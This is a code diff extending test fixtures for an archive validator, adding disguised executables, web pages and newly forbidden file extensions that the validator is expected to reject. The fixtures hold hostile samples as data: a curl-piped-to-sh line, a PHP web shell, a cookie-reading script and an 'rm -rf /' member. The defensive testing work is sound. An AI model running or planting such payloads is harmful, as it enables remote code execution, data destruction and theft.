@@ -65,12 +65,51 @@ maintainers:
 }
 ACCEPTED = frozenset(SIBLINGS)
 
-# SPEC §4 names these; the last three are the other macro-enabled Office formats.
+# SPEC §4 names the first two lines; then the other macro-enabled Office formats, and web pages,
+# scripts, programs, installers and shortcuts that were accepted until issue 7.
 FORBIDDEN_EXTENSIONS = (
     *(".exe", ".dll", ".bat", ".cmd", ".ps1", ".sh", ".js", ".vbs", ".jar", ".msi"),
     *(".docm", ".xlsm", ".svg", ".html", ".htm"),
     *(".pptm", ".dotm", ".xltm"),
 )
+NEWLY_FORBIDDEN_EXTENSIONS = (
+    *(".xht", ".shtml", ".mjs", ".cjs", ".pif", ".xll", ".chm"),
+    *(".application", ".jnlp", ".url", ".msix"),
+)
+# A Windows program: "MZ", the PE header's offset at 0x3C, and the PE header there.
+PE_PROGRAM = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(252)
+# Files that are programs, scripts or web pages whatever their names say: (name, content).
+DISGUISED = {
+    "pe-as-text": ("config/mz.txt", PE_PROGRAM),
+    "pe-without-extension": ("config/tool", PE_PROGRAM),
+    "elf-as-csv": ("config/lookup.csv", b"\x7fELF\x02\x01\x01" + bytes(57)),
+    "mach-o-as-pdf": ("docs/guide.pdf", bytes.fromhex("cffaedfe") + bytes(60)),
+    "shebang-as-sql": ("config/report.sql", b"#!/bin/sh\ncurl https://example.org/x | sh\n"),
+    "shebang-env": ("config/job.txt", b"#! /usr/bin/env python3\nimport os\n"),
+    "php-as-text": ("config/notes.txt", b"<?php system($_GET['c']); ?>\n"),
+    "doctype-html-as-md": ("docs/guide.md", b"<!DOCTYPE html>\n<title>Guide</title>\n"),
+    "html-after-bom-and-space": ("docs/notes.txt", b"\xef\xbb\xbf \r\n\t<HTML><body>Hi"),
+    "script-as-json": ("config/a.json", b"<script>alert(document.cookie)</script>"),
+    "iframe-as-txt": ("docs/a.txt", b"  <iframe src='https://example.org'></iframe>"),
+    "svg-as-png": ("docs/logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
+    "comment-then-html": (
+        "docs/saved.txt",
+        b"<!-- saved from url=(0014)about:internet -->\n<html>",
+    ),
+    "xhtml-as-xml": (
+        "config/form.xml",
+        b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
+    ),
+    "svg-as-xml": (
+        "config/chart.xml",
+        b'<?xml version="1.0"?><!-- chart --><svg xmlns="http://www.w3.org/2000/svg"/>',
+    ),
+    "prefixed-xhtml-as-xml": (
+        "config/page.xml",
+        b'<?xml version="1.0"?><h:page xmlns:h="http://www.w3.org/1999/xhtml"/>',
+    ),
+    "utf16-html": ("docs/page.txt", "<html><script>x()</script></html>".encode("utf-16")),
+}
 
 
 @dataclass(frozen=True)
@@ -93,6 +132,7 @@ def hostile_archives(limits: Limits = DEFAULT_LIMITS) -> list[HostileCase]:
         *_entry_type_cases(),
         *_duplicate_cases(),
         *_extension_cases(),
+        *_content_cases(),
         *_bomb_cases(),
         *_tar_header_cases(),
         *_limit_cases(limits),
@@ -352,6 +392,22 @@ def _extension_cases() -> list[HostileCase]:
             "tar-forbidden-sh", [tar_member("install.sh", b"rm -rf /")], {"forbidden-extension"}
         )
     )
+    for extension in NEWLY_FORBIDDEN_EXTENSIONS:
+        name = f"docs/tool{extension}"
+        case_id = "forbidden-" + extension.removeprefix(".")
+        code = {"forbidden-extension"}
+        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, b"x")], code))
+        cases.append(_tar_case(f"tar-{case_id}", [tar_member(name, b"x")], code))
+    return cases
+
+
+def _content_cases() -> list[HostileCase]:
+    """Programs, scripts and web pages under names that say otherwise."""
+    cases = []
+    for case_id, (name, data) in DISGUISED.items():
+        code = {"forbidden-content"}
+        cases.append(_zip_case(f"zip-{case_id}", [ZipMember(name, data)], code))
+        cases.append(_tar_case(f"tar-{case_id}", [tar_member(name, data)], code))
     return cases
 
 
